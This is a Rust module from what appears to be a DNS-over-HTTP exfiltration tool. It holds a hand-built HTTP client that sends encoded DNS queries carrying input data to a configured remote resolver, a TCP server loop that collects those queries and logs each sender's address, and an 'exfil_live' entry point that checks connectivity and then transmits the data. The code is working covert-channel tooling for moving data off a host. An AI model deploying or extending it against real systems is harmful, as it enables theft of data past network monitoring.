//! Live network adapter: runs the reassembly server behind a real TCP
//! listener and the client over plain HTTP/1.1. The simulated loopback path
//! never touches this module; it exists for end-to-end runs across hosts.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::time::Duration;

use anyhow::{bail, Context, Result};

use dohcore::client::{
    connectivity_check, exfiltrate, ExfilConfig, TransmissionStats, Transport, TransportError,
};
use dohcore::dohwire::{decode_query, DohRequest, HttpMethod, CONTENT_TYPE};
use dohcore::server::ExfilServer;

use crate::clock::RealClock;

const IO_TIMEOUT: Duration = Duration::from_secs(10);

/// Splits a plain `http://host[:port]/path` URL. TLS is out of scope for
/// the live adapter, so `https://` is rejected rather than half-supported.
fn parse_http_url(url: &str) -> Result<(String, u16, String)> {
    let rest = match url.strip_prefix("http://") {
        Some(rest) => rest,
        None if url.starts_with("https://") => {
            bail!("live transport supports plain http:// URLs only (got {url})")
        }
        None => bail!("unsupported URL scheme: {url}"),
    };
    let (authority, path) = match rest.find('/') {
        Some(i) => (&rest[..i], rest[i..].to_string()),
        None => (rest, "/".to_string()),
    };
    if authority.is_empty() {
        bail!("URL has no host: {url}");
    }
    let (host, port) = match authority.rsplit_once(':') {
        Some((host, port)) => (
            host.to_string(),
            port.parse::<u16>()
                .with_context(|| format!("bad port in {url}"))?,
        ),
        None => (authority.to_string(), 80),
    };
    Ok((host, port, path))
}

/// Transport that performs one HTTP/1.1 exchange per request over a fresh
/// connection.
pub struct HttpTransport;

impl Transport for HttpTransport {
    fn send(&mut self, request: &DohRequest) -> Result<Vec<u8>, TransportError> {
        http_exchange(request).map_err(|e| TransportError(format!("{e:#}")))
    }
}

fn http_exchange(request: &DohRequest) -> Result<Vec<u8>> {
    let (host, port, path) = parse_http_url(&request.url)?;
    let mut stream = TcpStream::connect((host.as_str(), port))
        .with_context(|| format!("connecting to {host}:{port}"))?;
    stream.set_read_timeout(Some(IO_TIMEOUT))?;
    stream.set_write_timeout(Some(IO_TIMEOUT))?;

    let mut head = String::new();
    match request.method {
        HttpMethod::Get => {
            let param = request
                .query_param
                .as_deref()
                .context("GET request without a dns parameter")?;
            head.push_str(&format!("GET {path}?dns={param} HTTP/1.1\r\n"));
        }
        HttpMethod::Post => {
            head.push_str(&format!("POST {path} HTTP/1.1\r\n"));
        }
    }
    head.push_str(&format!("Host: {host}:{port}\r\n"));
    head.push_str(&format!("Accept: {CONTENT_TYPE}\r\n"));
    let empty = Vec::new();
    let body = match request.method {
        HttpMethod::Post => request.body.as_ref().unwrap_or(&empty),
        HttpMethod::Get => &empty,
    };
    if request.method == HttpMethod::Post {
        head.push_str(&format!("Content-Type: {CONTENT_TYPE}\r\n"));
        head.push_str(&format!("Content-Length: {}\r\n", body.len()));
    }
    head.push_str("Connection: close\r\n\r\n");
    stream.write_all(head.as_bytes())?;
    stream.write_all(body)?;

    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).context("reading response")?;
    let (status, headers, body) = split_http_message(&raw).context("parsing response")?;
    let code = status
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse::<u16>().ok())
        .with_context(|| format!("bad status line: {status}"))?;
    if code != 200 {
        bail!("server answered {code}");
    }
    let body = match content_length(&headers) {
        Some(n) if n <= body.len() => body[..n].to_vec(),
        _ => body.to_vec(),
    };
    Ok(body)
}

/// Splits raw HTTP bytes into (first line, header lines, body).
fn split_http_message(raw: &[u8]) -> Result<(String, Vec<String>, &[u8])> {
    let boundary = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .context("no header/body boundary")?;
    let head = std::str::from_utf8(&raw[..boundary]).context("non-UTF-8 header")?;
    let mut lines = head.split("\r\n").map(str::to_string);
    let first = lines.next().context("empty header")?;
    Ok((first, lines.collect(), &raw[boundary + 4..]))
}

fn content_length(headers: &[String]) -> Option<usize> {
    headers.iter().find_map(|h| {
        let (name, value) = h.split_once(':')?;
        name.eq_ignore_ascii_case("content-length")
            .then(|| value.trim().parse().ok())
            .flatten()
    })
}

/// Extracts the DNS message from a parsed HTTP request: the body for POST,
/// the `dns` query parameter for GET.
fn extract_dns_message(method: &str, target: &str, body: &[u8]) -> Result<Vec<u8>> {
    match method {
        "POST" => Ok(body.to_vec()),
        "GET" => {
            let query = target.split_once('?').map(|(_, q)| q).unwrap_or("");
            for pair in query.split('&') {
                if let Some(value) = pair.strip_prefix("dns=") {
                    return dohcore::dohwire::decode_doh_get_param(value)
                        .map_err(|e| anyhow::anyhow!("bad dns parameter: {e}"));
                }
            }
            bail!("GET request without a dns parameter")
        }
        other => bail!("unsupported method {other}"),
    }
}

/// Handles one accepted connection; returns true if a query was ingested.
fn handle_connection(
    server: &ExfilServer,
    stream: &mut TcpStream,
    log: &mut dyn Write,
    printed_log_lines: &mut usize,
) -> Result<bool> {
    stream.set_read_timeout(Some(IO_TIMEOUT))?;
    stream.set_write_timeout(Some(IO_TIMEOUT))?;
    let peer = stream
        .peer_addr()
        .map(|a| a.ip().to_string())
        .unwrap_or_else(|_| "unknown".into());

    let mut raw = Vec::new();
    let mut buf = [0u8; 4096];
    let (head_end, header_text) = loop {
        let n = stream.read(&mut buf)?;
        if n == 0 {
            bail!("connection closed before headers completed");
        }
        raw.extend_from_slice(&buf[..n]);
        if let Some(i) = raw.windows(4).position(|w| w == b"\r\n\r\n") {
            break (i + 4, String::from_utf8_lossy(&raw[..i]).into_owned());
        }
        if raw.len() > 64 * 1024 {
            bail!("oversized request head");
        }
    };
    let mut lines = header_text.split("\r\n");
    let request_line = lines.next().unwrap_or_default().to_string();
    let headers: Vec<String> = lines.map(str::to_string).collect();
    let mut parts = request_line.split_whitespace();
    let method = parts.next().unwrap_or_default().to_string();
    let target = parts.next().unwrap_or_default().to_string();

    let wanted = content_length(&headers).unwrap_or(0);
    while raw.len() - head_end < wanted {
        let n = stream.read(&mut buf)?;
        if n == 0 {
            bail!("connection closed mid-body");
        }
        raw.extend_from_slice(&buf[..n]);
    }
    let body = &raw[head_end..head_end + wanted.min(raw.len() - head_end)];

    let outcome = extract_dns_message(&method, &target, body)
        .and_then(|wire| decode_query(&wire).map_err(|e| anyhow::anyhow!("bad DNS query: {e}")));
    match outcome {
        Ok((question, txn_id)) => {
            let now = dohcore::client::Clock::now(&RealClock);
            let answer = server.ingest_query(&question, txn_id, now, &peer);
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: {CONTENT_TYPE}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                answer.len()
            );
            stream.write_all(head.as_bytes())?;
            stream.write_all(&answer)?;
            for line in server.log_lines().iter().skip(*printed_log_lines) {
                writeln!(log, "{line}")?;
                *printed_log_lines += 1;
            }
            Ok(true)
        }
        Err(e) => {
            let message = format!("{e:#}\n");
            let head = format!(
                "HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                message.len()
            );
            stream.write_all(head.as_bytes())?;
            stream.write_all(message.as_bytes())?;
            Ok(false)
        }
    }
}

/// Accept loop. Handles `max_requests` connections when given (for tests and
/// bounded runs), forever otherwise. Per-connection errors are logged and do
/// not stop the loop.
pub fn serve_requests(
    server: &ExfilServer,
    listener: &TcpListener,
    log: &mut dyn Write,
    max_requests: Option<usize>,
) -> Result<usize> {
    let mut handled = 0usize;
    let mut printed_log_lines = 0usize;
    loop {
        if let Some(max) = max_requests {
            if handled >= max {
                return Ok(handled);
            }
        }
        let (mut stream, _) = listener.accept().context("accepting connection")?;
        match handle_connection(server, &mut stream, log, &mut printed_log_lines) {
            Ok(_) => handled += 1,
            Err(e) => {
                writeln!(log, "request failed: {e:#}")?;
                handled += 1;
            }
        }
    }
}

/// Runs the whole client pipeline against a live resolver URL from the
/// config. Returns the transmission statistics and session id.
pub fn exfil_live(
    cfg: &ExfilConfig,
    input: &[u8],
    seed: u64,
    log: &mut dyn Write,
) -> Result<(TransmissionStats, String)> {
    let mut transport = HttpTransport;
    let mut clock = RealClock;
    connectivity_check(&mut transport, &cfg.doh_servers[0])
        .context("connectivity check failed")?;
    exfiltrate(input, cfg, &mut transport, &mut clock, seed, log).context("exfiltration failed")
}
